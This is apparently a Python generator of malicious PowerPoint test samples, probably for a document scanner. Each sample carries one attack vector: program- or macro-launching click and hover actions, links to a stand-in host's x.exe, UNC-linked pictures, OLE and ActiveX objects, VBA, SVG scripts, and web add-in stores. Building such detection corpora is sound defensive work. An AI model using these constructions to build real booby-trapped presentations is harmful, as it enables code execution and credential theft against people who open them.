"""Attacks in shows of OOXML."""

from attack import HOST, TYPE, XML, P, pptx, shape
from attack_word import OLE, PNG

MS = "http://schemas.microsoft.com/office/2006/relationships"


def shows():
    click = '<a:hlinkClick r:id="rId9" action="%s"/>'
    web = [("rId9", "hyperlink", f"file://{HOST}/x.exe", "External")]
    for name, action in (
        ("program", "ppaction://program"),
        ("macro", "ppaction://macro?name=Run"),
        ("file", "ppaction://hlinkfile"),
        ("ole", "ppaction://ole?verb=0"),
        ("show", "ppaction://hlinkpres?slideindex=1"),
        ("case", "PPACTION://Program"),
        ("media", "ppaction://media"),
    ):
        yield f"action-{name}", f"click action {name}", pptx(shape(properties=click % action), rows=web)
    yield (
        "action-hover",
        "action on hovering",
        pptx(shape(properties='<a:hlinkHover r:id="rId9" action="ppaction://program"/>'), rows=web),
    )
    yield (
        "action-text",
        "action of words",
        pptx(
            shape(
                body='<a:r><a:rPr><a:hlinkClick r:id="rId9" action="ppaction://program"/></a:rPr><a:t>押す</a:t></a:r>'
            ),
            rows=web,
        ),
    )
    yield (
        "invalid-url",
        "address in @invalidUrl",
        pptx(shape(properties=f'<a:hlinkClick r:id="" invalidUrl="file://{HOST}/x"/>')),
    )
    yield (
        "sound-click",
        "sound of a click",
        pptx(
            shape(properties='<a:hlinkClick r:id=""><a:snd r:embed="rId9" name="s"/></a:hlinkClick>'),
            rows=[("rId9", "audio", f"http://{HOST}/x.wav", "External")],
        ),
    )
    yield (
        "video",
        "linked video",
        pptx(shape(inner='<a:videoFile r:link="rId9"/>'), rows=[("rId9", "video", f"file://{HOST}/x.mp4", "External")]),
    )
    yield (
        "ole",
        "embedded object in a slide",
        pptx(
            '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="o"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="Package" r:id="rId9" imgW="1" imgH="1"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>',
            rows=[("rId9", "oleObject", "../embeddings/oleObject1.bin")],
            parts={"ppt/embeddings/oleObject1.bin": OLE},
            defaults={"bin": TYPE + "oleObject"},
        ),
    )
    yield (
        "ole-verb",
        "an object that is started on showing",
        pptx(
            "",
            slide='<p:timing><p:tnLst><p:par><p:cTn id="1"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>',
        ),
    )
    yield (
        "control",
        "ActiveX in a slide",
        pptx(
            "",
            slide='<p:controls><p:control spid="1" r:id="rId9" name="c"/></p:controls>',
            rows=[("rId9", "control", "../activeX/activeX1.xml")],
            parts={
                "ppt/activeX/activeX1.xml": f'{XML}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
            },
            overrides={"/ppt/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        ),
    )
    yield (
        "picture-link",
        "linked picture of a slide",
        pptx(
            '<p:pic><p:nvPicPr><p:cNvPr id="4" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="rId9"/><a:stretch/></p:blipFill><p:spPr/></p:pic>',
            rows=[("rId9", "image", f"\\\\{HOST}\\x.png", "External")],
        ),
    )
    yield (
        "custom-data",
        "data of an add-in",
        pptx(
            "",
            slide='<p:custDataLst><p:tags r:id="rId9"/></p:custDataLst>',
            rows=[("rId9", "tags", "../tags/tag1.xml")],
            parts={
                "ppt/tags/tag1.xml": f'{XML}<p:tagLst xmlns:p="{P}"><p:tag name="a" val="http://{HOST}"/></p:tagLst>'
            },
            overrides={"/ppt/tags/tag1.xml": TYPE + "presentationml.tags+xml"},
        ),
    )
    yield (
        "vba",
        "VBA in a show",
        pptx(
            "",
            show_rows=[("rId9", f"{MS}/vbaProject", "vbaProject.bin")],
            parts={"ppt/vbaProject.bin": OLE},
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
            kind="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
    )
    yield (
        "svg-script",
        "drawing with a script behind a picture",
        pptx(
            '<p:pic><p:nvPicPr><p:cNvPr id="4" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="rId8"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rId9"/></a:ext></a:extLst></a:blip><a:stretch/></p:blipFill><p:spPr/></p:pic>',
            rows=[("rId8", "image", "../media/a.png"), ("rId9", "image", "../media/a.svg")],
            parts={
                "ppt/media/a.png": PNG,
                "ppt/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script href="http://{HOST}/"/></svg>',
            },
            defaults={"png": "image/png", "svg": "image/svg+xml"},
        ),
    )
    web_extension = f'{XML}<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"><we:reference id="x" store="http://{HOST}" storeType="FileSystem"/></we:webextension>'
    yield (
        "web-extension",
        "add-in of the web",
        pptx(
            "",
            rows=[
                (
                    "rId9",
                    "http://schemas.microsoft.com/office/2011/relationships/webextension",
                    "../webextensions/webextension1.xml",
                )
            ],
            parts={"ppt/webextensions/webextension1.xml": web_extension},
            overrides={"/ppt/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml"},
        ),
    )
